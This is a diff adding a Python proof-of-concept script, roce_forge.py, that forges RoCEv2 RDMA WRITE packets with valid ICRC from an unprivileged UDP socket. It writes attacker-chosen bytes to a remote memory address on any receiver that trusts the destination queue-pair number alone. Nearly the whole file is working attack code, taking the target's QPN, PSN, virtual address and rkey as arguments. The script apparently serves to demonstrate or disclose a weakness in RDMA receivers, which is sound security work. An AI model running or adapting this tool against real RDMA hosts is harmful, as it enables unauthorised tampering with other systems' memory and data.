@@ -1,0 +1,81 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: GPL-2.0-only
+#
+# roce_forge.py: what any unprivileged process can do to an RC connection
+# when a RoCEv2 receiver trusts the destination QPN alone. It sends RC
+# RDMA WRITE Only packets with a correct ICRC through an ordinary UDP
+# socket (no raw socket, no capability):
+#
+#   roce_forge.py --src IP --dst IP --qpn N --psn N --va ADDR --rkey KEY
+#                 [--pkey P] [--count N] [--len BYTES] [--fill BYTE]
+#
+# The socket is bound to --src, which must be an address of this host;
+# the kernel writes the IP header, so the ICRC is computed over the header
+# it will write: an unconnected socket with DF set gets IP ID 0 (see
+# ip_select_ident_segs()), and TOS, TTL and the checksums are masked.
+# Prints one line: "sent N".
+import argparse
+import os
+import socket
+import struct
+import zlib
+
+ROCE_PORT = 4791
+OP_RC_RDMA_WRITE_ONLY = 0x0a
+IP_MTU_DISCOVER = 10     # <linux/in.h>; not in Python's socket module
+IP_PMTUDISC_DO = 2
+
+
+def icrc(image):
+    """ICRC over IPv4 + UDP + BTH.. (Documentation/design.rst), as bytes."""
+    b = bytearray(image)
+    b[1] = 0xff                     # TOS
+    b[8] = 0xff                     # TTL
+    b[10:12] = b'\xff\xff'          # IP header checksum
+    b[26:28] = b'\xff\xff'          # UDP checksum
+    b[28 + 4] = 0xff                # BTH resv8a
+    return struct.pack('<I', zlib.crc32(b'\xff' * 8 + bytes(b)) & 0xffffffff)
+
+
+def packet(src, sport, dst, a):
+    payload = bytes([a.fill]) * a.len
+    pad = -a.len % 4
+    bth = struct.pack('>BBHI I', OP_RC_RDMA_WRITE_ONLY, pad << 4, a.pkey,
+                      a.qpn & 0xffffff, a.psn & 0xffffff)
+    reth = struct.pack('>QII', a.va, a.rkey, a.len)
+    body = bth + reth + payload + b'\0' * pad
+    udp_len = 8 + len(body) + 4
+    iph = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + udp_len, 0, 0x4000, 64,
+                      socket.IPPROTO_UDP, 0, socket.inet_aton(src),
+                      socket.inet_aton(dst))
+    udph = struct.pack('>HHHH', sport, ROCE_PORT, udp_len, 0)
+    return body + icrc(iph + udph + body)
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument('--src', required=True)
+    p.add_argument('--dst', required=True)
+    p.add_argument('--qpn', type=lambda x: int(x, 0), required=True)
+    p.add_argument('--psn', type=lambda x: int(x, 0), required=True)
+    p.add_argument('--va', type=lambda x: int(x, 0), required=True)
+    p.add_argument('--rkey', type=lambda x: int(x, 0), required=True)
+    p.add_argument('--pkey', type=lambda x: int(x, 0), default=0xffff)
+    p.add_argument('--count', type=int, default=1)
+    p.add_argument('--len', type=int, default=64)
+    p.add_argument('--fill', type=lambda x: int(x, 0), default=0xee)
+    a = p.parse_args()
+
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    # DF, hence IP ID 0 on an unconnected socket.
+    s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
+    s.bind((a.src, 0))
+    sport = s.getsockname()[1]
+    for i in range(a.count):
+        a.psn += i > 0
+        s.sendto(packet(a.src, sport, a.dst, a), (a.dst, ROCE_PORT))
+    print('sent %d as uid %d' % (a.count, os.getuid()))
+
+
+if __name__ == '__main__':
+    main()
